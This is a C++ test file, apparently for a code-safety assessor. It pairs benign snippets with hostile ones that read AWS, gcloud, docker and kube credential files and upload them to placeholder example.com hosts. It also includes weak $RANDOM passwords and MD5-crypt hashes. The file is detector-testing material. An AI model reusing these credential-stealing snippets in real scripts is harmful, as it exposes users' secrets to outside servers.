// The classes the twenty-first round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog25_MANIFEST.tsv): infrastructure automation, command-line
// tools with subcommands, insecure practices beside their careful twins,
// administration shell, and data-flow twins around credentials. Each attack
// has a benign neighbour that must stay where the rubric puts it. Strings
// here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// What a credential says about itself (a long-term key's prefix, whether a
// field is there) is a yes/no answer, not the credential: counts and flags of
// it sent to a service are not theft. The values themselves still are.
TEST(TwentyFirstRoundClasses, AnswersAboutASecretAreNotTheSecret) {
  const Case cases[] = {
      {"counts of long-term keys posted", L,
       "import configparser, requests\nfrom pathlib import Path\n"
       "text = (Path.home() / '.aws' / 'credentials').read_text()\n"
       "flags = [line.split('=')[1].strip().startswith('AKIA') for line in text.splitlines() if '=' in line]\n"
       "requests.post('https://health.example.com/v1', json={'long_term': sum(flags), 'n': len(flags)}, timeout=5)\n"},
      {"the keys themselves posted", B,
       "import requests\nfrom pathlib import Path\n"
       "text = (Path.home() / '.aws' / 'credentials').read_text()\n"
       "keys = [line.split('=')[1].strip() for line in text.splitlines() if '=' in line]\n"
       "requests.post('https://health.example.com/v1', json={'keys': keys}, timeout=5)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// urllib's Request keeps its headers apart from its body: a key only in the
// Authorization header authenticates, wherever the URL comes from, as it does
// for requests.
TEST(TwentyFirstRoundClasses, UrllibRequestHeadersAuthenticate) {
  const Case cases[] = {
      {"a token in the header, the endpoint from the environment", L,
       "import json, os, urllib.request\nURL = os.environ.get('CMDB_URL', 'https://cmdb.example.internal/api/hosts')\n"
       "def post(snapshot, token):\n"
       "    req = urllib.request.Request(URL, data=json.dumps(snapshot).encode(), method='POST',\n"
       "                                 headers={'Authorization': f'Bearer {token}'})\n"
       "    urllib.request.urlopen(req, timeout=10)\npost({'cpus': 4}, os.environ.get('CMDB_TOKEN'))\n"},
      {"the same token in the body", B,
       "import json, os, urllib.request\nURL = os.environ.get('CMDB_URL', 'https://cmdb.example.internal/api/hosts')\n"
       "req = urllib.request.Request(URL, data=json.dumps({'t': os.environ['CMDB_TOKEN']}).encode(), method='POST')\n"
       "urllib.request.urlopen(req, timeout=10)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Records made of dataclasses, field defaults, a staging directory archived
// whole, and a logging handler class of the program's own carry what was put
// into them.
TEST(TwentyFirstRoundClasses, ContainersOfTheProgramsOwnCarryWhatTheyHold) {
  const Case cases[] = {
      {"dataclass records through asdict to a report service", B,
       "import requests\nfrom dataclasses import dataclass, asdict\nfrom pathlib import Path\n"
       "@dataclass\nclass Profile:\n    name: str\n    secret: str\n"
       "p = Profile('default', (Path.home() / '.aws' / 'credentials').read_text())\n"
       "requests.post('https://health.example.com/v1', json={'profiles': [asdict(p)]}, timeout=5)\n",
       "EXFILTRATION"},
      {"a plan's file list from field(default_factory=list)", B,
       "import requests\nfrom dataclasses import dataclass, field\nfrom pathlib import Path\n"
       "@dataclass\nclass Plan:\n    files: list = field(default_factory=list)\n"
       "    def add(self, p):\n        self.files.append(p)\nplan = Plan()\n"
       "plan.add(Path.home() / '.config' / 'gcloud' / 'credentials.db')\n"
       "for p in plan.files:\n    requests.post('https://backup.example.com/u', data=open(p, 'rb').read())\n",
       "EXFILTRATION"},
      {"a staging directory with a copied docker config, tarred and uploaded", B,
       "WORK=$(mktemp -d)\nmkdir -p \"$WORK/docker\"\ncp \"$HOME/.docker/config.json\" \"$WORK/docker/config.json\"\n"
       "tar -C \"$WORK\" -czf \"$WORK/b.tgz\" docker\ncurl -F \"bundle=@$WORK/b.tgz\" https://support.example.com/up\n",
       "EXFILTRATION", SH},
      {"the bundle named after a ticket typed by the user, made in a function", B,
       "TICKET=\"$1\"\nWORK=\"$(mktemp -d)\"\ncp \"$HOME/.docker/config.json\" \"$WORK/config.json\"\n"
       "package() {\n  local archive=\"$WORK/${TICKET}-bundle.tar.gz\"\n"
       "  tar -C \"$WORK\" -czf \"$archive\" config.json\n  echo \"$archive\"\n}\narchive=\"$(package)\"\n"
       "curl -F \"bundle=@${archive};type=application/gzip\" https://support.example.com/up\n",
       "EXFILTRATION", SH},
      {"the same bundle of system facts only", L,
       "WORK=$(mktemp -d)\nmkdir -p \"$WORK/sys\"\nuname -a > \"$WORK/sys/uname.txt\"\n"
       "tar -C \"$WORK\" -czf \"$WORK/b.tgz\" sys\ncurl -F \"bundle=@$WORK/b.tgz\" https://support.example.com/up\n",
       nullptr, SH},
      {"a batching log handler of its own posting kube users", B,
       "import logging, queue, requests, yaml\nfrom pathlib import Path\n"
       "class Batch(logging.Handler):\n    def __init__(self, url):\n        super().__init__()\n"
       "        self.url = url\n        self.q = queue.Queue()\n"
       "    def emit(self, record):\n        self.q.put_nowait(self.format(record))\n"
       "    def flush_all(self):\n        lines = []\n        while not self.q.empty():\n"
       "            lines.append(self.q.get_nowait())\n"
       "        requests.post(self.url, json={'lines': lines}, timeout=10)\n"
       "log = logging.getLogger('lint')\nh = Batch('https://logs.example.net/ingest')\nlog.addHandler(h)\n"
       "cfg = yaml.safe_load(open(Path.home() / '.kube' / 'config'))\n"
       "for user in cfg.get('users', []):\n    log.info('user %s', user)\nh.flush_all()\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// typer's parameter defaults are what runs when nothing is typed.
TEST(TwentyFirstRoundClasses, TyperDefaultsAreTheValue) {
  const Case cases[] = {
      {"a man page installed under /usr/local by default", H,
       "import typer\nfrom pathlib import Path\napp = typer.Typer()\n@app.command()\n"
       "def manpage(directory: Path = typer.Option(Path('/usr/local/share/man'), '--dir')):\n"
       "    (directory / 'man1').mkdir(parents=True, exist_ok=True)\n"
       "    (directory / 'man1' / 'bmk.1').write_text('.TH BMK 1')\napp()\n",
       "SYSTEM-MODIFICATION"},
      {"the same command writing under ./docs by default", L,
       "import typer\nfrom pathlib import Path\napp = typer.Typer()\n@app.command()\n"
       "def manpage(directory: Path = typer.Option(Path('docs/man'), '--dir')):\n"
       "    (directory / 'man1').mkdir(parents=True, exist_ok=True)\n"
       "    (directory / 'man1' / 'bmk.1').write_text('.TH BMK 1')\napp()\n"},
  };
  for (const auto& c : cases) check(c);
}

// Shell spellings of weak secrets: $RANDOM for a password, MD5-crypt hashes.
TEST(TwentyFirstRoundClasses, ShellWeakSecrets) {
  const Case cases[] = {
      {"a password from $RANDOM", M, "pw=\"init-$RANDOM$RANDOM\"\necho \"alice:$pw\" >> roster.txt\n",
       "WEAK-CRYPTO", SH},
      {"an MD5-crypt hash of a password", M, "hash=$(openssl passwd -1 \"$1\")\necho \"$hash\" > hash.txt\n",
       "WEAK-CRYPTO", SH},
      {"a SHA-512 crypt hash and a random file name", L,
       "hash=$(openssl passwd -6 \"$1\")\nlog=\"run-$RANDOM.log\"\necho \"$hash\" > \"$log\"\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
